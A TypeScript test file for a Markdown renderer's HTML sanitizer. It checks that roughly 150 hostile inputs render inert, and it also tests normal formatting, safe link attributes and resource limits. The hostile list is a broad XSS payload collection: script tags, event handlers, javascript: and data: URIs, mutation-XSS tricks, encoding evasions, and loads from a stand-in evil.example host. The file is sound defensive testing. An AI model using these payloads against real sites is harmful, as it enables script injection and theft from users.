import assert from 'node:assert/strict';
import { test } from 'node:test';
import { type DefaultTreeAdapterTypes, parseFragment } from 'parse5';
import { cpuMs } from '../../../../test/cpu-time.ts';
import { excerptOf, renderMarkdown } from './markdown.ts';

type Node = DefaultTreeAdapterTypes.Node;

const TAGS = new Set(
  'p br hr h1 h2 h3 h4 h5 h6 blockquote ul ol li pre code em strong s a table thead tbody tr th td'.split(
    ' ',
  ),
);
const ATTRIBUTES: Readonly<Record<string, readonly string[]>> = {
  a: ['href', 'title', 'rel', 'target'],
  ol: ['start'],
};
const XHTML = 'http://www.w3.org/1999/xhtml';

/** What a browser would make of it that is not inert, as HTML's own parser builds it. */
function activeIn(html: string): string[] {
  const found: string[] = [];
  const visit = (node: Node) => {
    if ('tagName' in node) {
      const { tagName, attrs, namespaceURI } = node;
      if (namespaceURI !== XHTML || !TAGS.has(tagName)) found.push(`<${tagName}>`);
      for (const { name, value } of attrs) {
        if (!ATTRIBUTES[tagName]?.includes(name)) found.push(`${tagName}[${name}]`);
        if (name === 'href' && !/^(https?:\/\/|mailto:)/i.test(value)) found.push(`href ${value}`);
        if (name === 'start' && !/^\d+$/.test(value)) found.push(`start ${value}`);
      }
      if (tagName === 'a') {
        const rel = attrs.find(({ name }) => name === 'rel')?.value;
        if (rel !== 'noopener noreferrer nofollow') found.push(`rel ${rel}`);
      }
    } else if (node.nodeName === '#comment') found.push('a comment');
    if ('childNodes' in node) for (const child of node.childNodes) visit(child);
    if ('content' in node) visit(node.content);
  };
  visit(parseFragment(html));
  return found;
}

test('what is looked for here is found', () => {
  assert.deepEqual(activeIn('<p onclick="x">a</p><script>b</script>'), ['p[onclick]', '<script>']);
  assert.deepEqual(activeIn('<a href="javascript:x" rel="noopener noreferrer nofollow">a</a>'), [
    'href javascript:x',
  ]);
  assert.deepEqual(activeIn('<svg><a></a></svg>').slice(0, 1), ['<svg>']);
});

// Of the collections that sanitizers are tested with: elements and events, schemes, mutation (a second parse makes
// another tree than the first), encodings, and what Markdown itself makes links of.
const HOSTILE = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script\n>alert(1)</script\n>',
  '<script/x>alert(1)</script>',
  '<<SCRIPT>alert(1);//<</SCRIPT>',
  '"><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src=x:x onerror="alert(1)//',
  '<img """><script>alert(1)</script>">',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<image src=x onerror=alert(1)>',
  '<img srcset="x, javascript:alert(1) 2x" onload=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)//',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml;base64,PHN2Zy8+#x"/></svg>',
  '<svg><set attributeName=href to=javascript:alert(1)></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></foreignObject></svg>',
  '<math><mi xlink:href="data:x,<script>alert(1)</script>"></math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mtext><mglyph><style><math><table><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src=1>">',
  '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
  '<iframe src=javascript:alert(1)></iframe>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">',
  '<object data=javascript:alert(1)></object>',
  '<object><param name=x value=javascript:alert(1)></object>',
  '<embed src=javascript:alert(1)>',
  '<applet code=x.class></applet>',
  '<base href=javascript:alert(1)//>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<link rel=import href=data:text/html,x>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '<style>@import "//evil.example/x.css";</style>',
  '<style>*{background:url(javascript:alert(1))}</style>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  '<p style="position:fixed;inset:0">x</p>',
  '<body onload=alert(1)>',
  '<body background=javascript:alert(1)>',
  '<html onmouseover=alert(1)>',
  '<frameset onload=alert(1)>',
  '<table background=javascript:alert(1)><td onclick=alert(1)>x</table>',
  '<td background="javascript:alert(1)">',
  '<input autofocus onfocus=alert(1)>',
  '<input type=image src=x onerror=alert(1)>',
  '<select autofocus onfocus=alert(1)>',
  '<textarea autofocus onfocus=alert(1)>',
  '<keygen autofocus onfocus=alert(1)>',
  '<button formaction=javascript:alert(1)>x</button>',
  '<form action=javascript:alert(1)><input type=submit></form>',
  '<isindex action=javascript:alert(1) type=image>',
  '<video src=x onerror=alert(1)></video>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<bgsound src=javascript:alert(1)>',
  '<layer src=//evil.example/x.js></layer>',
  '<xss style="animation-name:x" onanimationstart=alert(1)></xss>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a onclick=alert(1) href=https://a.example>x</a>',
  '<a target=_top href=https://a.example>x</a>',
  '<a href="https://a.example" style="position:fixed">x</a>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  '<noframes><p title="</noframes><svg onload=alert(1)>">',
  '<xmp><p title="</xmp><svg onload=alert(1)>">',
  '<plaintext><script>alert(1)</script>',
  '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<!DOCTYPE x [<!ENTITY y "<script>">]>',
  '<p/onclick=alert(1)>x',
  '<p id=location>x</p><p name=cookie>',
  '<form id=x><input name=attributes></form>',
  '<slot onslotchange=alert(1)><b slot=x>',
  '<dialog open onclose=alert(1)>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java&#115;cript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](&#x6A&#x61&#x76&#x61script:alert(1))',
  '[x](  javascript:alert(1))',
  '[x](<javascript:alert(1)>)',
  '[x](<java\tscript:alert(1)>)',
  '[x](\u0001javascript:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)',
  '[x](file:///etc/passwd)',
  '[x](blob:https://a.example/1)',
  '[x](//evil.example)',
  '[x](/account/close)',
  '[x](#top)',
  '[x](?a=b)',
  '[x](tel:+491234)',
  '[x](https://a.example "" onmouseover=alert(1) x="")',
  "[x](https://a.example '\"><script>alert(1)</script>')",
  '[x](https://a.example"onmouseover="alert(1))',
  '[x](https://a.example/`onclick=`alert(1))',
  '[<img src=x onerror=alert(1)>](https://a.example)',
  '[x][y]\n\n[y]: javascript:alert(1)',
  '[y]\n\n[y]: <javascript:alert(1)> "t"',
  '<javascript:alert(1)>',
  '<vbscript:x>',
  '<data:text/html,x>',
  '![x](javascript:alert(1))',
  '![x](https://evil.example/pixel.png)',
  '![" onerror="alert(1)](https://evil.example/x.png)',
  '![x](https://evil.example/x.png"onerror="alert(1))',
  '![<script>alert(1)</script>](x)',
  '![x](data:image/png;base64,iVBORw0KGgo=)',
  '[![x](https://evil.example/x.png)](javascript:alert(1))',
  'https://a.example/"onmouseover="alert(1)',
  'https://a.example/<script>alert(1)</script>',
  "https://a.example/'onclick='alert(1)",
  'javascript:alert(1)//https://a.example',
  '`<script>alert(1)</script>`',
  '```html\n<script>alert(1)</script>\n```',
  '``` "><script>alert(1)</script>\nx\n```',
  '```<img/src=x/onerror=alert(1)>\nx\n```',
  '    <script>alert(1)</script>',
  '| <script>alert(1)</script> |\n|-|\n| <img src=x onerror=alert(1)> |',
  '# <script>alert(1)</script>',
  '> <script>alert(1)</script>',
  '1. <script>alert(1)</script>',
  '**<script>alert(1)</script>**',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '\\<script\\>alert(1)\\</script\\>',
  '\u003cscript\u003ealert(1)\u003c/script\u003e',
  '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '＜script＞alert(1)＜/script＞',
  '<ſcript>alert(1)</ſcript>',
  '<a\u000chref=javascript:alert(1)>x',
  '\u2028<script>alert(1)</script>',
  '{{constructor.constructor("alert(1)")()}}',
  '<%= 7*7 %><# alert(1) #>',
];

test(`${HOSTILE.length} hostile texts stay inert: alone, together, within others, and rendered twice`, () => {
  assert.ok(HOSTILE.length >= 100);
  const check = (text: string) => assert.deepEqual(activeIn(renderMarkdown(text)), [], text);
  for (const text of HOSTILE) {
    check(text);
    check(`> - ${text}\n\n${text}`);
    check(`| a | b |\n|-|-|\n| ${text} | x |`);
    check(`*a ${text} b*`);
    check(`[${text}](https://a.example)`);
    check(`[a](https://a.example/${text})`);
    check(`![${text}](https://a.example/${text} "${text}")`);
    // Somebody answers with the HTML that they were shown.
    check(renderMarkdown(text));
  }
  check(HOSTILE.join('\n'));
  check(HOSTILE.join('\n\n'));
  for (const [index, text] of HOSTILE.entries()) check(text + (HOSTILE[index + 1] ?? ''));
});

test('what people write looks as they mean it', () => {
  assert.equal(renderMarkdown('**a** and *b*\nc'), '<p><strong>a</strong> and <em>b</em><br />\nc</p>\n');
  assert.equal(renderMarkdown('1 < 2 & <b>'), '<p>1 &lt; 2 &amp; &lt;b&gt;</p>\n');
  assert.match(renderMarkdown('```\nls -l\n```'), /^<pre><code>ls -l\n<\/code><\/pre>/);
  assert.match(renderMarkdown('| a |\n|-|\n| b |'), /<td>b<\/td>/);
});

test('a link leaves without a way back; a picture elsewhere is a link, and not loaded', () => {
  const out = 'rel="noopener noreferrer nofollow" target="_blank"';
  assert.equal(
    renderMarkdown('[x](https://a.example/)'),
    `<p><a href="https://a.example/" ${out}>x</a></p>\n`,
  );
  assert.equal(
    renderMarkdown('![x](https://a.example/p.png)'),
    `<p><a href="https://a.example/p.png" ${out}>x</a></p>\n`,
  );
  assert.doesNotMatch(renderMarkdown('my.server.example and me@a.example'), /<a/);
});

test('no text of the allowed length takes long, or becomes much larger than it is', async () => {
  for (const piece of [
    '[',
    '*a ',
    '> ',
    '- ',
    '`',
    '<',
    '![[',
    '_a',
    'a@',
    '~~a',
    '[a]: u\n',
    '&amp',
    '|a',
    '(',
    '\\',
    '"',
    'https://',
    '1) ',
    '#',
    '<a ',
  ]) {
    const text = piece.repeat(20_000).slice(0, 20_000);
    const cost = await cpuMs(() => {
      const { length } = renderMarkdown(text);
      assert.ok(length < 400_000, `${piece}: ${length}`);
    });
    assert.ok(cost < 3_000, `${piece}: ${cost} ms`);
  }
  const table = `${'|a'.repeat(50)}\n${'|-'.repeat(50)}\n${'a\n'.repeat(9_000)}`;
  assert.ok(renderMarkdown(table).length < 300_000);
});

test('an excerpt is one line, whole letters, and not long', () => {
  assert.equal(excerptOf(' a\r\n\tb  c '), 'a b c');
  const long = excerptOf('🎉'.repeat(500));
  assert.ok(long.length <= 200 && long.isWellFormed() && long.endsWith('…'));
});
